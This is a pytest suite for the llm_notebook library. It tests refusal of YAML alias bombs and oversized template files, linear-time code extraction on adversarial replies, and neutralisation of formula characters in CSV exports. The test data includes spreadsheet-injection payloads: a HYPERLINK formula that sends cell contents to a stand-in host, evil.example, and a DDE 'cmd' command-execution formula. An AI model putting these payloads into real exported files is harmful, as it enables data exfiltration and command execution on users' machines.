"""Suite 13 — safe to share: files and parsers have limits.

A template file from someone else is read within bounds: a 389-byte llm template whose defaults
are a YAML alias bomb (`yaml.safe_load` builds it in microseconds; checking the template then
walked 387 million values: a MemoryError after a minute, before) and recursive aliases are
refused in milliseconds, a file over the size cap is refused before it is parsed, and nothing
is imported. The `-f code` extractor is linear: 1 MB adversarial replies (unclosed fences,
fences that never match, thousands of tiny blocks) take well under a second here, the
benchmark (`benchmarks/bench_redos.py`) prints the times against its 0.1 s target. CSV exports
never start a cell with a formula character.
"""

from __future__ import annotations

import csv
import io
import time

import pandas as pd
import pytest

from llm_notebook.magics.output import extract_code
from llm_notebook.testing.hostile_inputs import ALIAS_BOMB, FENCE_SHAPES, fence_reply
from llm_notebook.templates import TemplateFileError
from llm_notebook.templates.files import MAX_FILE_BYTES

SUITE = "13 safe to share"

GENEROUS_BOUND_S = 1.0   # the target is 0.1 s (benchmarks/bench_redos.py); load on 2 shared cores


def test_an_alias_bomb_is_refused_in_milliseconds(nb_session, tmp_path, record):
    assert len(ALIAS_BOMB) < 500
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(ALIAS_BOMB)
    recursive = tmp_path / "recursive.yaml"
    recursive.write_text("prompt: hi\ndefaults: &a {x: [*a]}\n")
    big = tmp_path / "big.json"
    big.write_text('{"prompt": "' + "x" * MAX_FILE_BYTES + '"}')
    timings = {}
    for path, expected in ((bomb, "alias bomb"), (recursive, "recursive YAML alias"),
                           (big, "larger than 5 MB")):
        with record.trial(f"{path.name}: refused in one line, nothing imported"):
            started = time.perf_counter()
            try:
                with pytest.raises(TemplateFileError, match=expected) as caught:
                    nb_session.templates.import_file(path)
            finally:
                timings[path.name] = time.perf_counter() - started
            assert "\n" not in str(caught.value) and "nothing was imported" in str(caught.value)
    imported = nb_session.templates.names()
    record.check("the bomb refused in well under a second", timings["bomb.yaml"] < 0.5)
    record.note(f"a {len(ALIAS_BOMB)}-byte alias bomb refused in "
                f"{timings['bomb.yaml'] * 1000:.0f} ms, recursive aliases in "
                f"{timings['recursive.yaml'] * 1000:.0f} ms, a {big.stat().st_size / 2**20:.1f} MB "
                f"file in {timings['big.json'] * 1000:.0f} ms; {len(imported)} imported")
    assert imported == []
    assert timings["bomb.yaml"] < 0.5, timings      # milliseconds, with room for a loaded machine


@pytest.mark.parametrize("shape", list(FENCE_SHAPES))
def test_the_code_extractor_is_linear_on_1_mb_adversarial_replies(shape, record):
    reply, small = fence_reply(shape), fence_reply(shape, 100_000)
    best = min(_timed(extract_code, reply) for _ in range(3))
    best_small = min(_timed(extract_code, small) for _ in range(3))
    # Linear: a reply ten times smaller takes about a tenth of the time (not a hundredth).
    record.check(f"-f code on 1 MB '{shape}': under {GENEROUS_BOUND_S:g} s and linear",
                 best < GENEROUS_BOUND_S and best_small < best / 3 + 0.005)
    record.note(f"-f code on {len(reply) / 1e6:.1f} MB '{shape}': {best * 1000:.0f} ms "
                f"({len(small) / 1e3:.0f} KB: {best_small * 1000:.1f} ms)")
    assert best < GENEROUS_BOUND_S, f"{shape}: {best:.3f} s"
    assert best_small < best / 3 + 0.005


def _timed(fn, *args) -> float:
    started = time.perf_counter()
    fn(*args)
    return time.perf_counter() - started


def test_the_extractor_still_finds_the_code():
    assert extract_code("Here:\n```js\nlet a\n```\nand\n```python\nx = 1\n```\n") == "x = 1"
    assert extract_code("```py\ncut off by max_tokens") == "cut off by max_tokens"
    assert extract_code("````\n```\nnested\n````") == "```\nnested"
    assert extract_code("plain") == "plain"


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]


def test_csv_exports_never_start_a_cell_with_a_formula(loop_session, loopback, record):
    import llm_notebook
    from llm_notebook.comparison import export

    # LLM answers (and an input column named like a formula) in a comparison grid.
    grid = llm_notebook.compare("[[reply:{x}]]", ["loop/a"],
                                inputs=pd.DataFrame({"x": FORMULAS, "=label": FORMULAS}))
    grid.wait()
    assert [c.output for c in grid.plan.cells] == FORMULAS
    grid_csv = export.render(grid, "csv")[0]
    # A model name that starts with a formula character, in the usage panel's CSV.
    loop_session.add_endpoint("@SUM(A1)", loopback.url)
    loop_session.ask("x", model="@SUM(A1)/m")
    panel = llm_notebook.UsagePanel()
    usage_csv = panel.to_csv(by="model")
    panel.close()
    bad, seen = [], set()
    for name, text in (("grid", grid_csv), ("usage panel", usage_csv)):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                seen.add(cell)
                if not record.check(f"{name} cell {cell[:30]!r}",
                                    cell[:1] not in ("=", "+", "-", "@", "\t", "\r")):
                    bad.append((name, cell))
    # Neutralised, not lost: the text is all there after the apostrophe.
    missing = {f"'{FORMULAS[0]}", "'=label", "'@SUM(A1)/m", "'\n=1+1", "'-2+3"} - seen
    record.check("the payloads' text kept after an apostrophe", not missing)
    record.note(f"{len(FORMULAS)} formula payloads in grid and usage CSV exports: {len(bad)} cells "
                "start with = + - @ tab or CR")
    assert bad == []
    assert missing == set()
